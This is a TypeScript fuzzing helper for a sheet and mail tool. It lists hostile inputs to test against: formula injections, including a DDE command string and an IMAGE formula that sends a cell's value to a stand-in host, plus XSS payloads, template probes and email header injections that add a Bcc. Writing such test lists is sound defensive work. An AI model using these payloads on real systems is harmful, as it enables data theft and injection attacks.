/** Strings nobody wishes to find in a cell or a mail: a list of known attacks, and generated ones around them. */
import fc from 'fast-check';

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://x.example";"y")',
  '=IMPORTXML("http://x.example";"//a")',
  '=IMAGE("http://x.example/?"&A1)',
  '+62812',
  '-5',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  "'=1+1",
  "''=1+1",
  '"=1+1"',
  "=cmd|' /C calc'!A0",
  '{=1}',
  ';=1',
  '＝1+1',
];
const NUMBERS = [
  '0812',
  '1e5',
  '1,5',
  '37.200',
  '50%',
  'Rp 5',
  '12/11',
  '2026-11-23',
  '10:30',
  'TRUE',
  'true',
  'null',
  'undefined',
  'NaN',
  '0',
  '-0',
  '0x10',
  '1E400',
  '#REF!',
  '#N/A',
  '#ERROR!',
];
const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '</td></tr></table><h1>',
  '<!--',
  '-->',
  '<![endif]-->',
  '</title>',
  '</script><script>',
  '&lt;b&gt;',
  '&#60;b&#62;',
  '{{7*7}}',
  '<?= 7*7 ?>',
  '<? x ?>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on template engines
  '${7*7}',
  'javascript:alert(1)',
  '<a href="https://x.example">',
];
const HEADERS = [
  'x\r\nBcc: evil@example.com',
  'x\nSubject: hi',
  'x\r\n\r\n<b>body</b>',
  'x%0d%0aBcc: evil@example.com',
  'a@example.com, evil@example.com',
  '"a" <evil@example.com>',
  'x\u2028Bcc: evil@example.com',
  'x\u0085y',
];
const SIGNS = [
  '\u202eabc',
  'a\u200bb',
  '\ufeffa',
  '\u0000',
  'a\u0000b',
  '\u0007',
  '\ud800',
  'a\udc00b',
  '👩‍👩‍👧',
  '🇮🇩',
  'e\u0301',
  'İstanbul',
  'ß',
  '¦',
  '|',
  ';',
  '…',
  '“”',
  '\\',
  '\\n',
  '`',
  "'",
  '"',
  "a'b",
  '``',
  ' ',
  '  a  ',
  '\u00a0',
];
const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'then',
  'C-00001',
  'BT-0001',
  'Lunas',
  'Dikirim',
  '✓',
  '↑ BT-0001',
  'Status',
  '_book',
  'Pesanan!A1',
  'L1,2;X',
];
export const NASTY: readonly string[] = [...FORMULAS, ...NUMBERS, ...MARKUP, ...HEADERS, ...SIGNS, ...NAMES];

const piece = fc.oneof(
  fc.constantFrom(...NASTY),
  fc.string({ unit: 'binary', maxLength: 20 }),
  fc.string({ unit: 'grapheme', maxLength: 12 }),
  fc.string({ unit: 'grapheme-ascii', maxLength: 30 }),
  fc.stringMatching(/^[=+\-@\t\r\n'"<>&;,]{1,8}$/),
  fc.integer({ min: 100, max: 1_900 }).map((length) => 'panjang '.repeat(length).slice(0, length)),
);
const text = fc.array(piece, { minLength: 1, maxLength: 3 }).map((pieces) => pieces.join(''));

/** So many different strings, the list of attacks first. */
export function hostileStrings(count: number, seed: number): string[] {
  const found = new Set(NASTY);
  for (let round = 0; found.size < count; round += 1)
    for (const each of fc.sample(text, { seed: seed + round, numRuns: 500 })) found.add(each);
  return [...found].slice(0, count);
}

/** What Sheets shows for a broken formula reads the same as text: as a SKU it is pointed out, not sold. */
const ERROR_TEXT = /^#(REF!|N\/A|VALUE!|NAME\?|DIV\/0!|NUM!|ERROR!)$/;

/** What the book takes for a SKU and for a name with its variation; longer ones go to Review. */
const LONGEST = { sku: 100, name: 600 } as const;
const tooLong = (text: string, sku: string): boolean =>
  sku.length > LONGEST.sku || `${text} (${text})`.length > LONGEST.name;

/** A SKU for each text, one of its own where blanks around it made it another's; '' where the text can be none. */
export function skusOf(texts: readonly string[]): string[] {
  const taken = new Set<string>();
  return texts.map((text, i) => {
    const bare = text.trim();
    const sku = taken.has(bare) ? `${bare}#${i}` : bare;
    taken.add(sku);
    return ERROR_TEXT.test(sku) || tooLong(bare, sku) ? '' : sku;
  });
}
